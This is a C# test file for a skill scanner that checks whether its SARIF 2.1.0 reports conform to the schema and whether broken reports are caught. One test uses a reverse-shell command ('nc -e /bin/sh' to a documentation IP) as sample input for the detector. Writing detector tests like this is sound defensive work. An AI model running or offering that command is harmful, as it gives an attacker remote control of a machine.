using System.Text.Json.Nodes;
using NJsonSchema;
using Symbiont.Scanning.Tests.Rules;

namespace Symbiont.Scanning.Tests.Reports;

/// <summary>Reports against the part of the schema of SARIF 2.1.0 that they use; see the schema's description for how it came about.</summary>
public sealed class SarifSchemaTests
{
    private static readonly SkillScanner Scanner = new();

    [Fact]
    public async Task A_report_of_everything_that_breaks_the_rules_holds_to_the_schema()
    {
        var findings = RuleCases.All.SelectMany(one => one.Hits.Concat(one.Disguised)).SelectMany(one => Scanner.ScanText(one.Text, $"a b/ü%#?/{one.File}").Findings).ToList();
        var result = new Baseline([new(findings[0].Fingerprint, "known")]).Apply(new(findings, 1, 1));

        Assert.NotEmpty(result.Accepted);
        Assert.Empty(await Errors(Report(result)));
    }

    [Fact]
    public async Task A_report_without_findings_holds_to_the_schema() => Assert.Empty(await Errors(Report(Scanner.ScanText("hello", "a.md"))));

    [Fact]
    public async Task What_the_schema_does_not_allow_is_noticed()
    {
        var sound = Report(Scanner.ScanText("nc -e /bin/sh 203.0.113.9 1", "a.sh"));

        Assert.NotEmpty(await Errors(Changed(sound, log => log["version"] = "2.0.0")));
        Assert.NotEmpty(await Errors(Changed(sound, log => log.Remove("runs"))));
        Assert.NotEmpty(await Errors(Changed(sound, log => Result(log)["level"] = "fatal")));
        Assert.NotEmpty(await Errors(Changed(sound, log => Result(log)["colour"] = "red")));
        Assert.NotEmpty(await Errors(Changed(sound, log => Result(log).Remove("message"))));
        Assert.NotEmpty(await Errors(Changed(sound, log => Result(log)["locations"]![0]!["physicalLocation"]!["region"]!["startLine"] = 0)));
        Assert.NotEmpty(await Errors(Changed(sound, log => Result(log)["partialFingerprints"]!["symbiont/v1"] = 1)));
        Assert.NotEmpty(await Errors(Changed(sound, log => Result(log)["suppressions"] = new JsonArray(new JsonObject { ["kind"] = "because" }))));
        Assert.NotEmpty(await Errors(Changed(sound, log => log["runs"]![0]!["tool"]!["driver"]!.AsObject().Remove("name"))));
    }

    private static JsonObject Result(JsonObject log) => log["runs"]![0]!["results"]![0]!.AsObject();

    private static string Changed(string report, Action<JsonObject> change)
    {
        var log = JsonNode.Parse(report)!.AsObject();
        change(log);
        return log.ToJsonString();
    }

    private static string Report(ScanResult result)
    {
        using var output = new StringWriter();
        SarifReport.Write(result, Scanner.Rules, "1.2.3", output);
        return output.ToString();
    }

    private static async Task<IEnumerable<string>> Errors(string report)
    {
        using var stream = typeof(SarifSchemaTests).Assembly.GetManifestResourceStream("sarif")!;
        using var reader = new StreamReader(stream);
        var schema = await JsonSchema.FromJsonAsync(await reader.ReadToEndAsync());
        return schema.Validate(report).Select(error => $"{error.Path}: {error.Kind}");
    }
}
